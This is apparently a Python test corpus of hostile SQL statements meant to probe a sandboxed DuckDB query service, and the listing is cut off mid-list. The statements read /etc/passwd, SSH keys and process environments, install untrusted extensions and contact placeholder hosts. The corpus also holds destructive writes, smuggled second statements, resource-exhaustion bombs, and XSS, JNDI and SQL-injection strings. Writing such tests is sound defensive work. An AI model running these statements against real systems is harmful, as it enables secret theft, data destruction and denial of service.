"""Statements that want what no query may have, or more than there is, by category.

`CORPUS` maps a category to its statements. None of them may read a file, change
a setting, reach the network, or harm the server, the recording or the next query;
many of them are refused, some run into a limit, some end the worker they run in.
"""

from __future__ import annotations

from itertools import product


def _files() -> list[str]:
    readers = (
        "read_csv('{}')", "read_csv_auto('{}')", "read_text('{}')", "read_blob('{}')", "read_json('{}')",
        "read_json_auto('{}')", "read_ndjson('{}')", "read_parquet('{}')", "parquet_metadata('{}')",
        "parquet_schema('{}')", "parquet_kv_metadata('{}')", "sniff_csv('{}')", "glob('{}')", "'{}'",
    )
    places = (
        "/etc/passwd", "/proc/self/environ", "/proc/self/mem", "/dev/zero", "/dev/stdin",
        "../../../../etc/shadow", "/tmp/**", "~/.ssh/id_rsa",
    )
    found = [f"SELECT * FROM {reader.format(place)}" for reader, place in product(readers, places)]
    found += [
        "SELECT * FROM read_csv(['/etc/passwd', '/etc/group'], delim = ':')",
        "SELECT * FROM read_text((SELECT '/etc/passwd'))",
        "SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')",
        "SELECT * FROM query_table('/etc/passwd')",
        "SELECT * FROM read_parquet('s3://bucket/key')",
        "SELECT * FROM read_csv('https://example.invalid/x.csv')",
        "SELECT * FROM read_text('file:///etc/passwd')",
        "SELECT * FROM sqlite_scan('/tmp/x.db', 't')",
        "SELECT * FROM postgres_scan('host=localhost', 'public', 't')",
        "SELECT * FROM read_duckdb('/tmp/x.db')",
        "SELECT content FROM read_text('/proc/1/cmdline')",
        "SELECT * FROM read_csv('/dev/random', max_line_size = 100000000)",
    ]
    return found


def _writes() -> list[str]:
    return [
        "COPY (SELECT 1) TO '/tmp/probe-hostile.csv'",
        "COPY (SELECT 1) TO '/dev/full'",
        "COPY (SELECT 1) TO '/tmp/probe-hostile' (FORMAT parquet, PARTITION_BY (x))",
        "COPY python.steps TO '/tmp/probe-hostile.parquet'",
        "COPY python.steps FROM '/etc/passwd'",
        "EXPORT DATABASE '/tmp/probe-hostile'",
        "IMPORT DATABASE '/tmp/probe-hostile'",
        "INSERT INTO python.steps (step) VALUES (1)",
        "UPDATE python.steps SET loss = 0",
        "DELETE FROM python.steps",
        "DELETE FROM python.steps RETURNING *",
        "TRUNCATE python.steps",
        "MERGE INTO python.losses USING (SELECT 1 AS step) s ON false WHEN NOT MATCHED THEN INSERT (step) VALUES (1)",
        "CREATE TABLE mine AS SELECT 1",
        "CREATE OR REPLACE TABLE python.steps AS SELECT 1",
        "CREATE VIEW python.v AS SELECT 1",
        "CREATE OR REPLACE VIEW python.steps AS SELECT 99",
        "CREATE MACRO f(a) AS a + 1",
        "CREATE MACRO count(a) AS 0",
        "CREATE TYPE mood AS ENUM ('a')",
        "CREATE SEQUENCE s",
        "CREATE SCHEMA mine",
        "CREATE INDEX i ON python.losses (step)",
        "CREATE SECRET s (TYPE s3)",
        "CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'x')",
        "DROP VIEW python.steps",
        "DROP TABLE python.losses",
        "DROP SCHEMA python CASCADE",
        "ALTER TABLE python.losses ADD COLUMN x INTEGER",
        "COMMENT ON TABLE python.losses IS 'x'",
        "WITH gone AS (DELETE FROM python.losses RETURNING *) SELECT * FROM gone",
        "WITH more AS (INSERT INTO python.losses (step) VALUES (1) RETURNING *) SELECT * FROM more",
        "EXPLAIN ANALYZE INSERT INTO python.losses (step) VALUES (1)",
        "EXPLAIN ANALYZE DELETE FROM python.losses",
        "EXPLAIN ANALYZE COPY (SELECT 1) TO '/tmp/probe-hostile.csv'",
        "EXPLAIN COPY (SELECT 1) TO '/tmp/probe-hostile.csv'",
        "SELECT nextval('s')",
        "VACUUM", "ANALYZE", "CHECKPOINT", "FORCE CHECKPOINT",
    ]


def _settings() -> list[str]:
    names = (
        "memory_limit", "threads", "enable_external_access", "lock_configuration", "temp_directory",
        "allowed_paths", "allowed_directories", "home_directory", "extension_directory", "enable_logging",
        "max_expression_depth", "autoload_known_extensions", "allow_unsigned_extensions", "search_path",
        "file_search_path", "log_query_path", "profiling_output", "custom_extension_repository",
    )
    found = [f"SET {name} = '1'" for name in names]
    found += [f"RESET {name}" for name in names[:6]]
    found += [f"SET GLOBAL {name} = true" for name in names[:6]]
    found += [
        "PRAGMA memory_limit = '100GB'", "PRAGMA enable_profiling", "PRAGMA profiling_output = '/tmp/x'",
        "PRAGMA database_list", "PRAGMA show_tables", "PRAGMA version", "PRAGMA force_checkpoint",
        "PRAGMA disable_optimizer", "PRAGMA threads = 99", "PRAGMA enable_checkpoint_on_shutdown",
        "SELECT set_config('memory_limit', '100GB', false)", "SELECT current_setting('secret_directory')",
        "SELECT * FROM duckdb_settings()", "SELECT * FROM duckdb_secrets(redact = false)",
        "SET VARIABLE x = 1", "SET SESSION AUTHORIZATION root", "USE python", "SET TimeZone = 'x'",
        "CALL enable_logging()", "CALL pragma_version()", "CALL force_checkpoint()",
    ]
    return found


def _doors() -> list[str]:
    return [
        "ATTACH '/tmp/probe-hostile.db'", "ATTACH ':memory:' AS other", "ATTACH '/etc/passwd' (TYPE sqlite)",
        "ATTACH 'host=localhost' AS pg (TYPE postgres)", "DETACH memory", "DETACH system",
        "INSTALL httpfs", "INSTALL '/tmp/evil.duckdb_extension'", "FORCE INSTALL httpfs", "LOAD httpfs",
        "INSTALL spatial FROM community", "LOAD '/tmp/evil.duckdb_extension'", "UPDATE EXTENSIONS",
        "INSTALL x FROM 'http://example.invalid'", "SELECT * FROM duckdb_extensions()",
        "SELECT load_extension('httpfs')", "SELECT * FROM pragma_storage_info('python.losses')",
        "CALL pragma_table_info('python.losses')", "SELECT * FROM http_get('http://example.invalid')",
        "SELECT getenv('HOME')", "SELECT getvariable('probe_texts')", "SELECT * FROM duckdb_logs()",
        "SELECT * FROM python_map_function()", "SELECT * FROM pandas_scan(1)", "SELECT * FROM pandas_scan(0)",
        "SELECT * FROM pandas_scan('0'::POINTER)", "SELECT * FROM arrow_scan(1, 2, 3)",
        "SELECT * FROM arrow_scan_dumb(1, 2, 3)", "SELECT * FROM arrow_scan(0::POINTER, 0::POINTER, 0::POINTER)",
        "SELECT * FROM seq_scan('python.losses')", "SELECT * FROM sql_auto_complete('SEL')",
        "SELECT * FROM test_all_types()", "SELECT * FROM test_all_types(use_large_enum = true)",
        "SELECT * FROM test_vector_types(NULL::INT)", "SELECT * FROM repeat_row(1, num_rows = 100000000000)",
        "SELECT * FROM check_peg_parser('SELECT 1')", "SELECT * FROM json_execute_serialized_sql('{}')",
        "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 42'))",
        "SELECT json_deserialize_sql(json_serialize_sql('SELECT 1'))",
        "SELECT json_serialize_sql('SELECT * FROM read_text(''/etc/passwd'')')",
        "SELECT * FROM from_substrait('x')", "SELECT * FROM get_substrait('SELECT 1')",
        "SELECT write_log('x')", "SELECT * FROM summary((SELECT 1))", "SELECT * FROM duckdb_memory()",
        "SELECT * FROM duckdb_temporary_files()", "SELECT * FROM duckdb_approx_database_count()",
        "SELECT * FROM which_secret('x', 's3')", "SELECT * FROM unnest(duckdb_secrets())",
        "SELECT in_search_path('memory', 'main')", "SELECT txid_current()", "SELECT currval('x')",
        "PREPARE p AS SELECT 1", "EXECUTE p", "DEALLOCATE p", "BEGIN", "COMMIT", "ROLLBACK", "ABORT",
        "START TRANSACTION", "BEGIN TRANSACTION READ WRITE",
    ]


def _several() -> list[str]:
    return [
        "SELECT 1; SELECT 2", "SELECT 1; DROP TABLE python.losses", "; SELECT 1; ; SELECT 2 ;",
        "COMMIT; DELETE FROM python.losses", "SELECT 1; COMMIT; SET memory_limit = '1TB'",
        "SELECT 1;;;;;;;;;;", ";", "", " ", "-- nothing", "/* open", "/**/", "SELECT 1 /* ; */ ; SELECT 2",
        "SELECT ';'; SELECT $$;$$", "SELECT $a$ ; $a$; SELECT 2", "EXPLAIN SELECT 1; SELECT 2",
        "SELECT 1) ; SELECT (2", "SELECT 1 -- ; \n; SELECT 2", "SELECT now()) ; DROP TABLE python.losses; --",
        "SELECT DATE '2020-01-01' FROM (SELECT 1) ; -- x",
    ]


def _bombs() -> list[str]:
    return [
        "SELECT count(*) FROM range(1000000000000)",
        "SELECT * FROM range(1000000000000) ORDER BY random()",
        "SELECT sum(a.range * b.range) FROM range(10000000) a, range(10000000) b",
        "SELECT count(DISTINCT hash(range)) FROM range(1000000000)",
        "SELECT string_agg(range::VARCHAR, ',') FROM range(1000000000)",
        "SELECT list(range) FROM range(1000000000)",
        "SELECT array_agg(repeat('x', 1000)) FROM range(100000000)",
        "SELECT repeat('x', 4000000000)", "SELECT repeat(repeat('x', 100000), 100000)",
        "SELECT repeat('ab', 2147483647)", "SELECT rpad('x', 2147483647, 'y')", "SELECT lpad('', 1000000000, 'é')",
        "SELECT range(1000000000)", "SELECT generate_series(1, 10000000000)", "SELECT list_resize([1], 4000000000)",
        "SELECT list_resize([1], 1000000000, 7)", "SELECT array_resize([1], 100000000000)",
        "SELECT unnest(range(10000000000))", "SELECT length(repeat(repeat('é', 65535), 65535))",
        "SELECT string_split(repeat('a,', 100000000), ',')", "SELECT list_sort(range(500000000))",
        "SELECT list_transform(range(300000000), lambda x: x + 1)",
        "SELECT list_reduce(range(100000000), lambda a, b: a + b)",
        "SELECT flatten([range(100000000), range(100000000)])", "SELECT list_aggregate(range(300000000), 'median')",
        "SELECT regexp_matches(repeat('a', 100000), '(a*)*b')",
        "SELECT regexp_replace(repeat('a', 10000000), '(a|aa)+$', 'b', 'g')",
        "SELECT regexp_extract_all(repeat('ab', 50000000), 'a')", "SELECT regexp_matches('x', repeat('(', 10000))",
        "SELECT regexp_matches('x', '((((a{1,1000}){1,1000}){1,1000}){1,1000})')",
        "SELECT levenshtein(repeat('a', 1000000), repeat('b', 1000000))",
        "SELECT damerau_levenshtein(repeat('a', 100000), repeat('b', 100000))",
        "SELECT jaro_winkler_similarity(repeat('a', 3000000), repeat('b', 3000000))",
        "SELECT editdist3(repeat('ab', 500000), repeat('ba', 500000))", "SELECT factorial(33)", "SELECT factorial(2147483647)",
        "SELECT 2::HUGEINT ** 1000", "SELECT power(9e307, 9e307)", "SELECT bitstring('1', 2000000000)",
        "SELECT bit_count(bitstring('1', 1000000000))", "SELECT '1'::BIT << 2000000000", "SELECT 1 << 9223372036854775807",
        "SELECT format('{:2000000000}', 1)", "SELECT printf('%2000000000d', 1)", "SELECT format('{:>1000000000}', 'x')",
        "SELECT to_base(9223372036854775807, 36, 2000000000)", "SELECT bar(1, 0, 10, 100000000)",
        "SELECT quantile_cont(range, 0.5) OVER (ORDER BY range ROWS 1000000 PRECEDING) FROM range(10000000)",
        "SELECT sum(range) OVER (ORDER BY random() ROWS BETWEEN 5000000 PRECEDING AND 5000000 FOLLOWING) FROM range(20000000)",
        "SELECT median(range) OVER (ORDER BY range) FROM range(5000000)",
        "SELECT mode(range) OVER (ORDER BY range) FROM range(5000000)",
        "SELECT histogram(range) FROM range(200000000)", "SELECT approx_top_k(range, 100000000) FROM range(1000)",
        "SELECT reservoir_quantile(range, 0.5, 2000000000) FROM range(100)",
        "SELECT max(range, 1000000000) FROM range(100)", "SELECT arg_max(range, range, 999999) FROM range(10)",
        "SELECT * FROM range(100000000) USING SAMPLE 99%", "SELECT * FROM range(1000000000) USING SAMPLE 100000000 ROWS",
        "SELECT a.* FROM range(100000) a JOIN range(100000) b ON a.range % 3 = b.range % 3",
        "SELECT * FROM range(100000) a LEFT JOIN range(100000) b ON a.range < b.range",
        "SELECT count(*) FROM range(3000000) a ASOF JOIN range(3000000) b ON a.range >= b.range",
        "SELECT count(*) FROM python.steps a, python.steps b, python.steps c, python.steps d, python.steps e",
        "SELECT count(*) FROM (SELECT * FROM range(100000000) GROUP BY ALL) GROUP BY CUBE (1)",
        "PIVOT (SELECT range a, range b FROM range(90000)) ON a USING sum(b)",
        "PIVOT (SELECT range a, range b FROM range(500000)) ON a USING sum(b)",
        "SELECT * FROM generate_series(TIMESTAMP '0001-01-01', TIMESTAMP '9999-01-01', INTERVAL '1 microsecond')",
        "SELECT generate_series(DATE '0001-01-01', DATE '200000-01-01', INTERVAL '1 second')",
        "SELECT sha256(repeat('x', 900000000))", "SELECT to_base64(repeat('x', 500000000)::BLOB)",
        "SELECT hex(repeat('x', 900000000))", "SELECT md5(string_agg(range::VARCHAR)) FROM range(300000000)",
        "SELECT url_encode(repeat('é', 200000000))", "SELECT nfc_normalize(repeat('é', 200000000))",
        "SELECT strip_accents(repeat('é', 200000000))", "SELECT upper(repeat('ß', 300000000))",
        "SELECT map(range(50000000), range(50000000))", "SELECT map_from_entries(list_zip(range(9000000), range(9000000)))",
        "SELECT json_group_array(range) FROM range(100000000)", "SELECT to_json(range(50000000))",
        "SELECT json_extract(repeat('[', 50000000), '$')", "SELECT repeat('[', 1000000)::JSON",
        "SELECT array_cross_product([1,2,3]::INT[3], [1,2,3]::INT[3]), repeat('x', 900000000)",
        "SELECT * FROM (SELECT unnest(range(100000)) a), (SELECT unnest(range(100000)) b), (SELECT unnest(range(100000)) c)",
        "FROM range(10000000) SELECT list(range) OVER (ORDER BY range)",
        "SELECT list_distinct(range(200000000))", "SELECT list_zip(range(100000000), range(100000000))",
        "SELECT list_slice(range(500000000), 1, 400000000, 2)", "SELECT reverse(repeat('é', 500000000))",
        "SELECT translate(repeat('x', 500000000), 'x', 'y')", "SELECT replace(repeat('x', 100000000), 'x', 'yyyyyyyyyyyy')",
        "SELECT concat_ws(',', repeat('x', 900000000), repeat('x', 900000000), repeat('x', 900000000))",
        "SELECT 'x' || repeat('y', 1000000000) || repeat('z', 1000000000)",
        "SELECT string_agg(repeat('x', 1000000), '') FROM range(10000)",
    ]


def _recursive() -> list[str]:
    return [
        "WITH RECURSIVE t AS (SELECT 1 AS a UNION ALL SELECT a + 1 FROM t) SELECT count(*) FROM t",
        "WITH RECURSIVE t AS (SELECT 1 AS a UNION ALL SELECT a FROM t) SELECT * FROM t",
        "WITH RECURSIVE t AS (SELECT 1 AS a UNION SELECT a + 1 FROM t) SELECT max(a) FROM t",
        "WITH RECURSIVE t AS (SELECT 'x' AS a UNION ALL SELECT a || a FROM t) SELECT length(a) FROM t",
        "WITH RECURSIVE t AS (SELECT [1] AS a UNION ALL SELECT a || a FROM t) SELECT len(a) FROM t",
        "WITH RECURSIVE t AS (SELECT 1 AS a UNION ALL SELECT x.a FROM t x, t y) SELECT count(*) FROM t",
        "WITH RECURSIVE t AS (SELECT 1 a UNION ALL SELECT a + 1 FROM t WHERE a < 1e12) SELECT sum(a) FROM t",
        "WITH RECURSIVE t(a) USING KEY (a) AS (SELECT 1 UNION SELECT a + 1 FROM t) SELECT count(*) FROM t",
        "WITH RECURSIVE a AS (SELECT 1 x UNION ALL SELECT x FROM b), b AS (SELECT x FROM a) SELECT * FROM a",
        "WITH RECURSIVE t AS (SELECT 1 UNION ALL (WITH RECURSIVE u AS (SELECT 1 UNION ALL SELECT 1 FROM u) "
        "SELECT * FROM u)) SELECT * FROM t",
        "WITH RECURSIVE t AS (SELECT {'a': 1} s UNION ALL SELECT {'a': s} FROM t) SELECT * FROM t",
        "WITH RECURSIVE t AS (SELECT range a FROM range(100000) UNION ALL SELECT a + 1 FROM t) SELECT count(*) FROM t",
    ]


def _deep() -> list[str]:
    found = [f"SELECT {'(' * depth}1{')' * depth}" for depth in (50, 900, 5_000, 30_000)]
    found += [f"SELECT {'-' * 2 * depth}1" for depth in (10, 1_000)]
    found += [f"SELECT {'- ' * depth}1" for depth in (100, 3_000, 30_000)]
    found += [f"SELECT {'NOT ' * depth}true" for depth in (100, 2_000, 15_000)]
    found += [f"SELECT {'+'.join(['1'] * depth)}" for depth in (100, 2_000, 30_000)]
    found += [f"SELECT {'['  * depth}1{']' * depth}" for depth in (50, 500, 5_000, 30_000)]
    found += ["SELECT " + "{'a': " * depth + "1" + "}" * depth for depth in (50, 500, 5_000)]
    found += [f"SELECT {'abs(' * depth}1{')' * depth}" for depth in (100, 2_000, 10_000)]
    found += [f"SELECT {'CASE WHEN true THEN ' * depth}1{' END' * depth}" for depth in (50, 1_000)]
    found += [f"{'SELECT * FROM (' * depth}SELECT 1{')' * depth}" for depth in (20, 300, 2_000)]
    found += [f"SELECT {'(SELECT ' * depth}1{')' * depth}" for depth in (20, 300, 5_000)]
    found += [" UNION ALL ".join(["SELECT 1"] * depth) for depth in (100, 4_000)]
    found += [" INTERSECT ".join(["SELECT 1"] * depth) for depth in (100, 2_000)]
    found += [f"SELECT 1 WHERE {' AND '.join(['1 = 1'] * depth)}" for depth in (100, 5_000)]
    found += [f"SELECT 1 IN ({', '.join(map(str, range(depth)))})" for depth in (1_000, 10_000)]
    found += [f"SELECT {', '.join(['1'] * depth)}" for depth in (1_000, 20_000)]
    found += [f"SELECT * FROM range(2) {' '.join(f', range(2) t{i}' for i in range(depth))}" for depth in (20, 300)]
    found += [f"SELECT 1{'::INT' * depth}" for depth in (100, 10_000)]
    found += [f"SELECT x{'.x' * depth}" for depth in (10, 10_000)]
    found += [f"SELECT [1]{'[1]' * depth}" for depth in (10, 10_000)]
    found += [f"SELECT NULL::INT{'[]' * depth}" for depth in (10, 1_000, 30_000)]
    found += ["SELECT NULL::" + "STRUCT(a " * depth + "INT" + ")" * depth for depth in (10, 1_000, 5_000)]
    found += [f"SELECT '{'[' * depth}{']' * depth}'::JSON" for depth in (100, 30_000)]
    found += [f"SELECT '{'[' * depth}1{']' * depth}'::INT{'[]' * depth}" for depth in (20, 2_000)]
    found += [f"SELECT 1 ORDER BY {', '.join(['1'] * depth)}" for depth in (100, 20_000)]
    found += [f"SELECT list_transform([1], {'lambda x: list_transform([1], ' * depth}lambda y: y{')' * (depth + 1)}"
              for depth in (5, 200)]
    found += ["WITH " + ", ".join(f"t{i} AS (SELECT * FROM t{i - 1}, t{i - 1})" if i else "t0 AS (SELECT 1 a)"
                                  for i in range(depth)) + f" SELECT count(*) FROM t{depth - 1}"
              for depth in (10, 25, 400)]
    found += [f"SELECT {'a' * 60_000}", f"SELECT '{'x' * 60_000}'", f"SELECT \"{'x' * 60_000}\"",
              f"SELECT {'9' * 60_000}", f"SELECT 0x{'f' * 60_000}", f"SELECT 1e{'9' * 60_000}",
              f"SELECT 0.{'1' * 60_000}", "SELECT 1" + " " * 60_000, f"SELECT /*{'/*' * 20_000}*/ 1",
              f"SELECT $${'x' * 60_000}$$", "SELECT " + "?," * 20_000 + "?", "SELECT " + "$1," * 10_000 + "$1"]
    return found


def _types() -> list[str]:
    kinds = ("INT", "BIGINT", "HUGEINT", "UHUGEINT", "DOUBLE", "DECIMAL(38,37)", "VARCHAR", "BLOB", "BIT", "DATE",
             "TIMESTAMP", "TIMESTAMPTZ", "TIME", "TIMETZ", "INTERVAL", "UUID", "JSON", "INT[]", "INT[3]",
             "STRUCT(a INT)", "MAP(INT, INT)", "UNION(a INT, b VARCHAR)", "ENUM('a')", "BOOLEAN")
    values = ("'x'", "-1", "9223372036854775807", "'NaN'::DOUBLE", "'infinity'", "NULL", "[1, NULL]", "''")
    found = [f"SELECT CAST({value} AS {kind})" for kind, value in product(kinds, values[:3])]
    found += [f"SELECT TRY_CAST({value} AS {kind})" for kind, value in product(kinds[::4], values[3:])]
    found += [
        "SELECT NULL::INT[99999]", "SELECT NULL::INT[2147483647]", "SELECT NULL::DECIMAL(39, 1)", "SELECT NULL::DECIMAL(1, 9)",
        "SELECT array_value(1, 2)::INT[3]", "SELECT enum_range(NULL::ENUM('a'))", "SELECT enum_code('a'::ENUM('a'))",
        "SELECT union_extract(union_value(a := 1), 'b')", "SELECT struct_extract({'a': 1}, 'b')",
        "SELECT struct_extract({'a': 1}, 9999999999)", "SELECT [1][9223372036854775807]", "SELECT [1][-9223372036854775808]",
        "SELECT [1, 2, 3][9223372036854775807 : -9223372036854775808]", "SELECT 'abc'[-9223372036854775808 :]",
        "SELECT substring('abc', -9223372036854775808, 9223372036854775807)", "SELECT 1 / 0, 1 % 0, 1 // 0",
        "SELECT -9223372036854775808 / -1", "SELECT abs(-9223372036854775808)", "SELECT -9223372036854775808 // -1",
        "SELECT (-170141183460469231731687303715884105728)::HUGEINT // -1", "SELECT gcd(-9223372036854775808, -1)",
        "SELECT lcm(9223372036854775807, 9223372036854775806)", "SELECT sqrt(-1), ln(0), acos(2)", "SELECT chr(1114112)",
        "SELECT chr(-1)", "SELECT chr(55296)", "SELECT make_date(999999999, 1, 1)", "SELECT make_timestamp(9223372036854775807)",
        "SELECT to_timestamp(1e300)", "SELECT to_timestamp('NaN'::DOUBLE)", "SELECT epoch_ms(9223372036854775807)",
        "SELECT DATE '5881580-07-10' + 1", "SELECT TIMESTAMP 'infinity' - TIMESTAMP '-infinity'",
        "SELECT INTERVAL 9223372036854775807 MONTH", "SELECT date_trunc('x', now())", "SELECT strftime(now(), repeat('%Y', 100000))",
        "SELECT strptime('x', '%')", "SELECT date_diff('microsecond', DATE '-infinity', DATE 'infinity')",
        "SELECT time_bucket(INTERVAL '0 days', now())", "SELECT time_bucket(INTERVAL '1 month 1 day', now())",
        "SELECT age(TIMESTAMP '-infinity')", "SELECT now() AT TIME ZONE 'nowhere'", "SELECT timezone('x', now())",
        "SELECT list_extract(NULL, NULL)", "SELECT map([1, 1], [2, 2])", "SELECT map([NULL], [1])", "SELECT map_extract(map(), 1)",
        "SELECT aggregate_list()", "SELECT sum(DISTINCT)", "SELECT count(*) FILTER (WHERE 'x')", "SELECT quantile(1, 2)",
        "SELECT quantile_cont(1, -9)", "SELECT approx_quantile(1, 'x')", "SELECT first(1 ORDER BY 'x' COLLATE nowhere)",
        "SELECT 'a' COLLATE nocase.noaccent.nfc.de", "SELECT ntile(0) OVER ()", "SELECT nth_value(1, -1) OVER ()",
        "SELECT lag(1, 9223372036854775807) OVER ()", "SELECT sum(1) OVER (ROWS BETWEEN -1 PRECEDING AND 1 FOLLOWING)",
        "SELECT sum(1) OVER (ORDER BY 1 RANGE BETWEEN 'x' PRECEDING AND 'y' FOLLOWING)",
        "SELECT sum(1) OVER (ORDER BY 1 GROUPS BETWEEN 1 PRECEDING AND 9223372036854775807 FOLLOWING)",
        "SELECT COLUMNS('(')", "SELECT COLUMNS(*)::INT FROM python.steps", "SELECT * EXCLUDE (nothing) FROM python.steps",
        "SELECT * REPLACE (1 / 0 AS step) FROM python.steps", "SELECT * RENAME (step AS a) FROM python.steps",
        "SELECT unnest([[1]], recursive := true), unnest({'a': {'b': 1}}, recursive := true)", "SELECT unnest(NULL)",
        "SELECT unnest(unnest([[1]]))", "SELECT row(1).a", "SELECT ROW()", "SELECT [] = [[]]", "SELECT {} ", "SELECT MAP {}",
        "SELECT typeof(typeof)", "SELECT current_query()", "SELECT stats(1)", "SELECT vector_type(1)", "SELECT hash(NULL)",
        "SELECT error('boom')", "SELECT sleep(100)", "SELECT pg_sleep(100)", "SELECT random() FROM range(-1)",
        "SELECT * FROM range(9223372036854775806, 9223372036854775807)", "SELECT * FROM range(0, 1, 0)",
        "SELECT * FROM range(NULL)", "SELECT * FROM generate_series(1, 2, 0)", "SELECT range(0, 1, -1)",
        "SELECT * FROM (VALUES (1), (1, 2))", "SELECT * FROM (VALUES (1), ('x'))", "SELECT 1 LIMIT -1", "SELECT 1 LIMIT 'x'",
        "SELECT 1 LIMIT 9223372036854775807 OFFSET 9223372036854775807", "SELECT 1 LIMIT 1e300 %", "SELECT 1 LIMIT 101%",
        "SELECT 1 ORDER BY 2", "SELECT 1 GROUP BY 9", "SELECT a FROM b.c.d.e.f", "SELECT * FROM python", "SELECT python.steps",
        "SELECT max(step) FROM python.steps GROUP BY GROUPING SETS ((), (step), ROLLUP (step, loss), CUBE (1, 2, 3))",
        "SELECT * FROM python.steps TABLESAMPLE reservoir(0)", "SELECT * FROM python.steps TABLESAMPLE 1000%",
        "SELECT * FROM python.steps POSITIONAL JOIN python.losses", "SELECT * FROM python.steps NATURAL JOIN python.losses",
        "SELECT * FROM python.steps SEMI JOIN python.losses USING (nothing)", "SELECT * FROM python.steps AT (VERSION => 1)",
        "DESCRIBE (SELECT 1 / 0)", "SUMMARIZE SELECT NULL", "SUMMARIZE (SELECT {'a': [1]})", "SHOW ALL TABLES", "SHOW nothing",
        "UNPIVOT python.steps ON COLUMNS(*)", "PIVOT python.steps ON step, boundary USING sum(loss), max(loss) GROUP BY nothing",
        "SELECT json('{')", "SELECT '{\"a\":1}'::JSON->>'$.a.b.c[#-1]'", "SELECT json_transform('{}', '{\"a\":\"NOTHING\"}')",
        "SELECT json_extract('[1]', '$[99999999999999999999]')", "SELECT json_keys('1')", "SELECT json_merge_patch('{', '}')",
        "SELECT from_json('[1]', '[\"INT\"]')", "SELECT json_structure(repeat('{\"a\":', 5000) || '1' || repeat('}', 5000))",
        "SELECT bitstring('2', 1)", "SELECT ''::BIT", "SELECT '101'::BIT & '1'::BIT", "SELECT set_bit('1'::BIT, 99, 1)",
        "SELECT unhex('xyz')", "SELECT from_base64('!')", "SELECT decode('\\xFF'::BLOB)", "SELECT '\\xZZ'::BLOB",
        "SELECT encode('é')[1]", "SELECT md5_number('x')", "SELECT uuid_extract_timestamp(uuid())", "SELECT parse_path('/', 'x')",
        "SELECT string_split_regex('a', '[')", "SELECT regexp_extract('a', '(', 1)", "SELECT regexp_extract('a', 'a', 99)",
        "SELECT regexp_replace('a', 'a', '\\99')", "SELECT 'a' SIMILAR TO '('", "SELECT 'a' LIKE 'a' ESCAPE 'xx'",
        "SELECT 'a' GLOB '['", "SELECT printf('%s')", "SELECT printf('%n', 1)", "SELECT format('{}')", "SELECT format('{:%}', 1)",
        "SELECT format('{0}{1}{99}', 1)", "SELECT format('{:d}', 'x')", "SELECT printf('%*d', 1, 2)", "SELECT list_sort([1], 'x')",
        "SELECT list_aggregate([1], 'nothing')", "SELECT list_aggregate([1], 'string_agg', 1)", "SELECT list_filter([1], lambda x: x)",
        "SELECT list_reduce([], lambda a, b: a)", "SELECT apply([1], lambda x, y, z: x)", "SELECT list_select([1], [99, -1, NULL])",
        "SELECT list_where([1], [true, false])", "SELECT list_grade_up([NULL, {'a': 1}])", "SELECT array_distance([1]::INT[1], [1])",
        "SELECT array_cosine_similarity([0, 0]::FLOAT[2], [0, 0]::FLOAT[2])", "SELECT list_cosine_distance([], [])",
    ]
    return found


def _odd_text() -> list[str]:
    return [
        "SELECT '\x00'", "\x00", "SELECT 1\x00; DROP TABLE python.losses", "SELECT \"\x00\"", "SEL\x00ECT 1",
        "SELECT '\ud800'", "\udfff", "SELECT '\U0010ffff'", "SELECT '\ufffe\uffff'", "ＳＥＬＥＣＴ １", "SELECT\u00a01",
        "SELECT\u20281", "SELECT\ufeff 1", "\ufeffSELECT 1", "SELECT '\u202e\u2066'", "SELECT 'a\u0301' = 'á'",
        "SELECT 1 AS \"\u202e\"", "SELECT 1 AS \"\x1b]52;c;eA==\x07\"", "SELECT '\x1b[31m'", "SELECT E'\\x00'", "SELECT E'\\uD800'",
        "SELECT E'\\UFFFFFFFF'", "SELECT U&'\\D800'", "SELECT * FROM U&\"python\"", "SELECT x'FF'::VARCHAR", "SELECT '\\xFF'::BLOB::VARCHAR",
        "SELECT * FROM \"python\".\"ſteps\"", "SELECT * FROM PYTHON.STEPS LIMIT 1", "SELECT 'é'[1]", "SELECT 1 -- \u2028 DROP TABLE x",
        "SELECT '💥' * 5", "SELECT repeat('💥', 1000)", "SELECT unicode('')", "SELECT ord('💥')", "SELECT 1 AS \"\"", "SELECT 1 AS \"a\"\"b\"",
        "SELECT $1", "SELECT ?", "SELECT :name", "SELECT @1", "SELECT `a`", "SELECT #1", "SELECT [1] [", "SELECT {", "SELECT }",
        "SELECT ']]>'", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x}", "' OR 1=1 --", "1' UNION SELECT 1 --",
        "SELECT 'unterminated", "SELECT \"unterminated", "SELECT $$unterminated", "SELECT E'\\", "\\", "\t\n\r\v\f", "🦆", "SELECT 1 🦆",
    ]


def _crashes() -> list[str]:
    """Shapes that ended the process in this or another release of the engine."""
    return [
        "SELECT GROUPING()", "SELECT * FROM duckdb_functions() ORDER BY random()", "SELECT array_to_json()", "SELECT json_object(1)",
        "SELECT json_object('a')", "SELECT json_array()", "SELECT row_to_json(1)", "SELECT list_value() || NULL",
        "SELECT constant_or_null(1, NULL, 2)", "SELECT constant_or_null()", "SELECT struct_pack()", "SELECT struct_insert({'a': 1})",
        "SELECT struct_concat({'a': 1}, {'a': 2})", "SELECT struct_concat()", "SELECT struct_update({'a': 1}, a := [])",
        "SELECT remap_struct({'a': 1}, NULL::ROW(b INT), {'b': 'a'}, NULL)", "SELECT remap_struct(NULL, NULL, NULL, NULL)",
        "SELECT remap_struct(1, 1, 1, 1)", "SELECT create_sort_key(NULL, NULL)", "SELECT create_sort_key(1, 'x')", "SELECT create_sort_key()",
        "SELECT combine(1, 2)", "SELECT finalize(1)", "SELECT finalize(sum(1) EXPORT_STATE)", "SELECT combine(sum(1) EXPORT_STATE, NULL)",
        "SELECT finalize('x'::AGGREGATE_STATE<sum(INTEGER)>)", "SELECT sum(1) EXPORT_STATE", "SELECT list_unpivot([1])",
        "SELECT __internal_decompress_string(1::UTINYINT)", "SELECT __internal_compress_string_utinyint('abc')",
        "SELECT __internal_decompress_integral_bigint(1::UTINYINT, 9223372036854775807)",
        "SELECT __internal_compress_integral_utinyint(99999, 1)", "SELECT __internal_compress_string_hugeint(repeat('x', 99))",
        "SELECT __internal_decompress_string(1::UHUGEINT)", "SELECT __internal_decompress_string(9223372036854775807::HUGEINT)",
        "SELECT internal_decompress_string(1)", "SELECT invoke(1)", "SELECT invoke(lambda x: x, 1)", "SELECT list_transform([1], 1)",
